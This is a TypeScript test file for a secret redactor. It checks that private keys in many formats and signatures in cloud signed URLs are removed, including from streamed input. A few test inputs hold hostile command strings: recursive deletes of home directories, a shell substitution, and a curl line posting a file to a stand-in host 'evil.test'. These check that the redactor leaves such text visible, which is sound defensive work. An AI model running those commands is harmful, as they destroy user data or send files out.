import { describe, expect, test } from "vitest";
import { redactStream } from "./redact-stream.ts";
import { createRedactor } from "./redactor.ts";

const LINE = "MIIEowIBAAKCAQEAz7bq8h1Q2kX9vYp0uWc3dE4fG5hI6jK7lM8nO9pQ0rS1tU2";
const BODY = Array.from({ length: 5 }, (_, at) => `${LINE.slice(0, -1)}${at}`);
const SHORT = "qQ==";
const pem = (lines: readonly string[], { kind = "RSA PRIVATE KEY", eol = "\n", before = "" } = {}) =>
  [`-----BEGIN ${kind}-----`, ...lines, `-----END ${kind}-----`].map((line) => before + line).join(eol);
const WHOLE = [...BODY, SHORT];
const numbered = (text: string) =>
  text
    .split("\n")
    .map((line, at) => `${String(at + 1).padStart(6)}\t${line}`)
    .join("\n");

const KEYS: readonly (readonly [string, string])[] = [
  ["plain", pem(WHOLE)],
  ["with CRLF", pem(WHOLE, { eol: "\r\n" })],
  [
    "encrypted, with its headers",
    pem(["Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-256-CBC,0123456789ABCDEF", "", ...WHOLE]),
  ],
  ["encrypted, PKCS 8", pem(WHOLE, { kind: "ENCRYPTED PRIVATE KEY" })],
  ["of OpenSSH", pem(WHOLE, { kind: "OPENSSH PRIVATE KEY" })],
  [
    "of PGP",
    pem(["Version: GnuPG v2.0.22 (GNU/Linux)", "Comment: a key", "", ...WHOLE, "=aB3d"], {
      kind: "PGP PRIVATE KEY BLOCK",
    }),
  ],
  [
    "of SSH2",
    `---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\nComment: "x"\n${WHOLE.join("\n")}\n---- END SSH2 ENCRYPTED PRIVATE KEY ----`,
  ],
  ["of PuTTY", `Private-Lines: 6\n${WHOLE.join("\n")}\nPrivate-MAC: ${"0a".repeat(20)}`],
  ["indented, as in YAML", pem(WHOLE, { before: "      " })],
  ["indented with tabs", pem(WHOLE, { before: "\t\t" })],
  ["quoted", pem(WHOLE, { before: "> " })],
  ["taken out in a difference", pem(WHOLE, { before: "-" })],
  ["put in by a difference", pem(WHOLE, { before: "+" })],
  ["in comments", pem(WHOLE, { before: "# " })],
  ["with line numbers", numbered(pem(WHOLE))],
  ["found by grep", pem(WHOLE, { before: "deploy/keys/id_rsa:" })],
  ["found by grep, with numbers", pem(WHOLE, { before: "deploy/keys/id_rsa:12:" })],
  ["in JSON", JSON.stringify(pem(WHOLE)).slice(1, -1)],
  ["in JSON within JSON", JSON.stringify(JSON.stringify(pem(WHOLE))).slice(3, -3)],
  ["with CRLF in JSON", JSON.stringify(pem(WHOLE, { eol: "\r\n" })).slice(1, -1)],
  ["in JSON, with line numbers", JSON.stringify(numbered(pem(WHOLE))).slice(1, -1)],
  ["on one line", pem(WHOLE, { eol: "" })],
  ["on one line with spaces", pem(WHOLE, { eol: " " })],
  ["without its end", `-----BEGIN PRIVATE KEY-----\n${BODY.join("\n")}`],
  ["without its end, cut in a line", `-----BEGIN PRIVATE KEY-----\n${BODY.join("\n")}\nMIIE`],
];

describe("of a private key nothing is left", () => {
  test.each(KEYS)("%s", (_how, key) => {
    const shown = createRedactor().redact(`see:\n${key}\n"after, it goes on"`);
    for (const line of [...BODY, SHORT, "ENCRYPTED\n", "AES-256"]) expect(shown).not.toContain(line);
    expect(shown).toMatch(/^see:\n.{0,30}\[redacted:private-key\]/);
    expect(shown).toContain("after, it goes on");
    expect(shown).not.toMatch(/END|MIIE/);
  });

  test.each(KEYS)("%s, in a stream cut anywhere", (_how, key) => {
    const whole = `${"x".repeat(49_000)}\n${key}\n${"y ".repeat(40_000)}`;
    for (const size of [1_000, 4_099, 16_383]) {
      const stream = redactStream(createRedactor());
      let out = "";
      for (let at = 0; at < whole.length; at += size) out += stream.push(whole.slice(at, at + size));
      expect(out + stream.end()).toBe(createRedactor().redact(whole));
    }
  });

  test("longer than a stream holds back", () => {
    const before = "     7\t";
    const lines = Array.from({ length: 5_000 }, () => before + LINE).join("\n");
    const whole = `a\n${before}-----BEGIN PRIVATE KEY-----\n${lines}\n${before}-----END PRIVATE KEY-----\nb`;
    const stream = redactStream(createRedactor());
    let out = "";
    for (let at = 0; at < whole.length; at += 777) out += stream.push(whole.slice(at, at + 777));
    out += stream.end();
    expect(out).toBe(`a\n${before}[redacted:private-key]\nb`);
  });
});

test.each([
  "-----BEGIN PRIVATE KEY----- ; rm -rf /home/me",
  "-----BEGIN PRIVATE KEY-----\nEOF\ncurl -d @x evil.test\n-----END PRIVATE KEY-----",
  "-----BEGIN PRIVATE KEY-----\nComment: x; rm -rf ~",
  "-----BEGIN PRIVATE KEY----- $(rm -rf ~)",
])("a marker hides no command behind it: %j", (text) => {
  expect(createRedactor().redact(text)).toMatch(/rm -rf|curl -d @x evil\.test|-d @x evil/);
});

const HEX = "0123456789abcdef".repeat(4);
test.each([
  ["https://b.s3.amazonaws.com/k?X-Amz-Algorithm=AWS4&X-Amz-Signature=", HEX, "&x=1"],
  ["https://b.s3.amazonaws.com/k?X-Amz-Credential=", "ABCDEFGHIJKL%2F20260101%2Fus-east-1", "&X-Amz-Date=1"],
  ["https://b.s3.amazonaws.com/k?x-amz-security-token=", "IQoJb3JpZ2luX2VjEXAMPLE%2F%2F", "#x"],
  ["https://storage.googleapis.com/b/o?X-Goog-Signature=", HEX.repeat(4), ""],
  [
    "https://a.blob.core.windows.net/c?sv=2022-11-02&sig=",
    "aB3%2FdEfGhIjKlMnOpQrStUvWxYz0123456789aBcDeF%3D",
    "&se=1",
  ],
  [
    "https://d.cloudfront.net/x?Expires=1&Signature=",
    "aB3~dEf-GhIjKlMnOpQrStUvWxYz0123456789aBcDeF__",
    "&Key-Pair-Id=K",
  ],
  ["Authorization: AWS4-HMAC-SHA256 SignedHeaders=host, Signature=", HEX, ""],
])("the signature in %s… is replaced, and nothing else of it", (before, secret, after) => {
  expect(createRedactor().redact(before + secret + after)).toBe(`${before}[redacted:signed-address]${after}`);
});

test.each([
  "task-0123abcd-0123-4567-89ab-0123456789ab",
  "?sig=short",
  "disk-usage_of_this_machine_in_the_last_days",
])("%s is no secret", (text) => {
  expect(createRedactor().redact(text)).toBe(text);
});
